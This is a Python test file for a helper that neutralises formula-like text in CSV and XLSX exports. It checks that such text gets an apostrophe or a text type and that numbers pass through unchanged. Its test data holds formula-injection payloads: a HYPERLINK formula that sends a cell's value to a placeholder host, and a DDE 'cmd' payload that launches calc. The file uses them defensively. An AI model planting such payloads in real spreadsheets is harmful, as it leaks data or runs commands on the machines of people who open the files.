"""The one neutralisation of spreadsheet cells (web/tableurs.py) that every CSV and XLSX export goes through: a text
beginning like a formula is data, numbers are never touched (the probe of 6 December)."""

from __future__ import annotations

import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from solidarite.web.tableurs import FORMULA_STARTS, csv_cell, xlsx_cell

pytestmark = pytest.mark.sans_base


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_text_beginning_like_a_formula_gets_an_apostrophe_in_csv(start: str) -> None:
    assert csv_cell(f"{start}SUM(1+1)").startswith(f"'{start}".replace("\r", "\n"))


@pytest.mark.parametrize(
    "value", [-100, Decimal("-100.00"), -1.25, 0, None, dt.date(2026, 10, 1), "Moreau-Durand", "CC Cère", ""]
)
def test_numbers_dates_and_plain_texts_are_left_as_they_are(value: object) -> None:
    assert csv_cell(value) == value
    book = Workbook(write_only=True)
    assert xlsx_cell(book.create_sheet("x"), value) == value


def test_in_xlsx_a_formula_like_text_is_a_text_cell_with_its_value_unchanged() -> None:
    book = Workbook(write_only=True)
    sheet = book.create_sheet("x")
    texts = [
        '=HYPERLINK("http://exemple.invalid/?x="&A2,"Moreau")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2",
        "+33",
    ]
    sheet.append([xlsx_cell(sheet, t) for t in texts] + [xlsx_cell(sheet, -2)])
    buffer = io.BytesIO()
    book.save(buffer)
    row = next(load_workbook(buffer).active.iter_rows())
    assert [(c.value, c.data_type, c.quotePrefix) for c in row] == [(t, "s", True) for t in texts] + [
        (-2, "n", False)
    ]
